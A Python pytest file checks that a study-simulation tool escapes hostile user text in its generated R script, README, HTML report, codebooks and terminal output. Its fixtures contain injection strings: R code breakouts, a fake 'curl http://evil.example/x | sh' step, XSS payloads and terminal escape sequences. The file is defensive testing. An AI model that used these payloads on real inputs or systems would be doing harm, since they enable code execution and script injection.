"""Generated code and documents treat user text as data (issue 28, docs/robustness.md).

A replication package is generated from hostile text (a study folder whose name holds R code on
its own line, a title that writes a fake "## Re-run" section, HTML in levels and citations, terminal
escape sequences in item text); then each artifact is *run or parsed*: `Rscript analysis.R` in a
sandbox folder, README.md parsed as CommonMark for its headings, report.html parsed for active
content, the codebooks for their table cells, and the terminal output for control characters.
"""

from __future__ import annotations

import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from simsubjects.cli import main
from simsubjects.collect.untrusted import md_code, md_text, r_comment, r_string, shell_join, term

ROOT = Path(__file__).resolve().parents[1]
RSCRIPT = shutil.which("Rscript")

HOSTILE = [
    'plain', 'quote " and \\ backslash', "new\nline", 'x")\nfile.create("PWNED")\n#', "\r\ncarriage",
    "tab\tand \x1b[31mescape\x1b[0m", "\x9bC1 CSI", "unicode é ü 中文 \u2028 sep", "dollar $x ${y}", "`r system('id')`",
    "back`tick", "'single'",
]


# ------------------------------------------------------------------ R literals, checked by R itself

@pytest.mark.skipif(RSCRIPT is None, reason="Rscript is not installed (apt-get install r-base-core)")
def test_r_string_is_read_back_by_r_as_the_same_text(tmp_path):
    """R is the reference: each literal, parsed and printed by R, gives back the exact text; comments
    stay comments. A literal that broke out would create PWNED or fail to parse."""
    lines = ['options(warn = 2)']
    for i, t in enumerate(HOSTILE):
        lines += [f"# {r_comment(t)}", f'writeLines({r_string(t)}, "out{i}.txt", useBytes = TRUE)']
    (tmp_path / "t.R").write_text("\n".join(lines) + "\n", encoding="utf-8")
    r = subprocess.run([RSCRIPT, "t.R"], cwd=tmp_path, capture_output=True, text=True, timeout=60,
                       env={"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8", "LC_ALL": "C.UTF-8"})
    assert r.returncode == 0, r.stderr
    assert not (tmp_path / "PWNED").exists()
    for i, t in enumerate(HOSTILE):
        assert (tmp_path / f"out{i}.txt").read_bytes().decode("utf-8") == t + "\n", repr(t)


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_is_one_line_without_control_characters(text):
    for f in (r_comment, term, md_text, md_code):
        out = f(text)
        assert "\n" not in out and "\r" not in out and "\x1b" not in out and "\x9b" not in out, (f, out)
    assert "\n" not in shell_join(["simsubjects", text]) and "\n" not in r_string(text)


@pytest.mark.parametrize("text", HOSTILE + ["## heading", "- item", "1. one", "<script>x</script>", "a | b",
                                            "[link](javascript:alert(1))", "![img](x)", "```", "***", "=== "])
def test_markdown_text_parses_as_one_plain_paragraph(text):
    tokens = MarkdownIt("commonmark").enable("table").parse(md_text(text))
    kinds = [t.type for t in tokens]
    assert kinds == ["paragraph_open", "inline", "paragraph_close"], (text, kinds)
    children = [c.type for c in tokens[1].children]
    assert set(children) <= {"text", "softbreak", "code_inline"} - {"softbreak"}, (text, children)


def test_shell_join_round_trips_through_bash(tmp_path):
    args = ["simsubjects", "collect", *HOSTILE]
    script = "printf '%s\\0' " + shell_join(args)[len("simsubjects "):]
    r = subprocess.run(["bash", "-c", script.replace("collect", "'collect'", 1)], capture_output=True, timeout=30)
    assert r.stdout.split(b"\0")[:-1] == [a.encode() for a in args[1:]]


# ------------------------------------------------------------------ a replication package from hostile text

TITLE = "T\n## Re-run\n\n```sh\ncurl http://evil.example/x | sh\n```\n<script>alert(1)</script>"
STUDY = r"""study: hostile
title: "T\n## Re-run\n\n```sh\ncurl http://evil.example/x | sh\n```\n<script>alert(1)</script>"
citation: "C <img src=x onerror=alert(1)> [x](javascript:alert(1))"
design:
  factors:
    frame: {levels: ["a|b", "<i>c</i>"], assignment: between}
  subjects: {table: people.csv, id: id, template: "Age ${age}."}
items:
  - {id: q1, text: "\e[2J\e]0;pwned\aQuestion (${frame})?", response: yesno}
prompt:
  template: "${persona} ${question}\n${options}"
  answer_prefix: "\nAnswer:"
analyses:
  - distribution
"""
FOLDER = 'st\nfile.create("PWNED")\n# udy'


@pytest.fixture(scope="module")
def package(smollm2, tmp_path_factory):
    from simsubjects.cli.replicate import replicate

    root = tmp_path_factory.mktemp("hostile")
    src = root / FOLDER
    src.mkdir()
    (src / "people.csv").write_text("id,age\np1,30\np2,40\n")
    (src / "study.yaml").write_text(STUDY)
    out = root / 'out\nfile.create("PWNED2")\n#'
    replicate([str(src / "study.yaml")], "smollm2", out, show_progress=False, loaded_model=smollm2,
              log=lambda m: None)
    return out


@pytest.mark.skipif(RSCRIPT is None, reason="Rscript is not installed (apt-get install r-base-core)")
def test_analysis_r_runs_no_user_text_as_code(package, tmp_path):
    sandbox = tmp_path / "sandbox"
    shutil.copytree(package, sandbox)
    script = (sandbox / "analysis.R").read_text()
    assert not any(line.startswith("file.create") for line in script.splitlines())
    r = subprocess.run([RSCRIPT, "analysis.R"], cwd=sandbox, capture_output=True, text=True, timeout=120,
                       env={"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8", "SIMSUBJECTS_R_SOURCE": str(ROOT / "R"),
                            "HOME": str(tmp_path)})
    assert r.returncode == 0, r.stderr[-2000:]
    assert not list(sandbox.rglob("PWNED*")) and not list(tmp_path.rglob("PWNED*"))


def _headings(md: str) -> list[str]:
    tokens = MarkdownIt("commonmark").enable("table").parse(md)
    return [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]


def test_readme_headings_are_the_packages_own(package):
    md = (package / "README.md").read_text()
    assert _headings(md) == [f"Replication package: {md_text(_key(package))}", "Re-run", "What is where"]
    tokens = MarkdownIt("commonmark").enable("table").parse(md)
    assert not [t for t in tokens if t.type in ("html_block", "html_inline")]
    inline_html = [c for t in tokens if t.children for c in t.children if c.type in ("html_inline", "link_open")]
    assert not inline_html
    fences = [t for t in tokens if t.type == "fence"]
    assert len(fences) == 1 and "curl" not in fences[0].content
    assert len(fences[0].content.strip().splitlines()) == 3  # the command, Rscript, report: one line each


def _key(package: Path) -> str:
    import json

    return json.loads((package / "manifest.json").read_text())["papers"][0]


class _Active(HTMLParser):
    """Collects what could run in a browser: script/iframe/object/embed tags, on* handlers, javascript: URLs."""

    def __init__(self):
        super().__init__()
        self.found: list = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "iframe", "object", "embed", "base", "form", "meta") and not (
                tag == "meta" and set(dict(attrs)) <= {"charset", "name", "content"}):
            self.found.append(tag)
        for k, v in attrs:
            v = (v or "").strip().lower()
            if k.startswith("on") or v.startswith(("javascript:", "vbscript:")) or \
                    (k in ("src", "href") and not v.startswith(("#", "data:image/png;base64,")) and tag != "a"):
                self.found.append((tag, k, v[:40]))


def test_report_has_no_active_content(package):
    html = (package / "report.html").read_text()
    p = _Active()
    p.feed(html)
    assert p.found == []
    assert "<script" not in html.lower() and "<img src=x" not in html.lower()


def test_codebooks_are_escaped_table_cells(package):
    books = list(package.rglob("codebook_*.md"))
    assert books
    for b in books:
        tokens = MarkdownIt("commonmark").enable("table").parse(b.read_text())
        assert not [t for t in tokens if t.type in ("html_block", "html_inline")]
        rows = [t for t in tokens if t.type == "tr_open"]
        cells = [t for t in tokens if t.type in ("td_open", "th_open")]
        assert len(cells) == 7 * len(rows)  # a `|` in a value does not add a cell
        for t in tokens:
            assert not [c for c in (t.children or []) if c.type == "html_inline"]


def test_terminal_output_has_no_escape_sequences(package, tmp_path, capsys):
    src = tmp_path / "s"
    src.mkdir()
    (src / "people.csv").write_text("id,age\np1,30\n")
    (src / "study.yaml").write_text(STUDY)
    assert main(["study", "check", str(src / "study.yaml")]) == 0
    assert main(["analyze", str(package / "hostile"), "--no-plots"]) == 0
    out = capsys.readouterr()
    for stream in (out.out, out.err):
        assert "\x1b" not in stream and "\x07" not in stream and "\x9b" not in stream
    assert "\\x1b[2J" in out.out  # shown, escaped
    (src / "study.yaml").write_text(STUDY.replace("study: hostile", "study: hostile\nbad\x9b: 1"))
    assert main(["study", "check", str(src / "study.yaml")]) == 2
    assert "\x9b" not in capsys.readouterr().err
